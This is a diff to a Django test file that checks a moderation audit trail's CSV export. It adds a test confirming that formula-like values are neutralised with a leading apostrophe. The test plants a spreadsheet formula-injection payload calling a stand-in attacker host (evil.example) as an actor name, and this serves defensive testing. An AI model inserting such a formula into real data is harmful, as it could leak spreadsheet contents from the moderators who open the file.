@@ -53,7 +53,22 @@ def test_tampering_shows_the_first_bad_link(moderator_client, clip, decided):
         assert f"broken at event #{target.seq}" in html and "altered" in html
 
 
+def _unguard(value: str) -> str:
+    """Undo the export's spreadsheet guard: one leading apostrophe is removed."""
+    return value[1:] if value.startswith("'") else value
+
+
 def test_clip_trail_exports_as_csv_with_every_field(moderator_client, clip, decided):
+    from django.db import transaction
+
+    from audit.actors import Actor
+    from audit.services import audit_record
+
+    # A name chosen to run as a formula in whatever spreadsheet a moderator opens the file in.
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with transaction.atomic():
+        audit_record(actor=Actor.public(hostile), action="clip.noted", object_type="clip",
+                     object_id=clip.id, subject_id=clip.subject_id)  # fmt: skip
     answer = moderator_client.get(f"/moderation/clips/{clip.content_id}/audit.csv")
     assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
     assert f"audit-clip-{clip.content_id}.csv" in answer["Content-Disposition"]
@@ -68,9 +83,13 @@ def test_clip_trail_exports_as_csv_with_every_field(moderator_client, clip, deci
         "report.noted",
         "clip.taken_down",
         "report.taken_down",
+        "clip.noted",
     ]
+    assert rows[-1]["actor_label"] == "'" + hostile  # shown as text, never run
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
     events = {e.seq: e for e in AuditEvent.objects.all()}
-    for row in rows:
+    for guarded in rows:
+        row = {k: _unguard(v) for k, v in guarded.items()}
         event = events[int(row["seq"])]
         assert (row["prev_hash"], row["hash"]) == (event.prev_hash, event.hash)
         # The file alone is enough to recompute every hash.
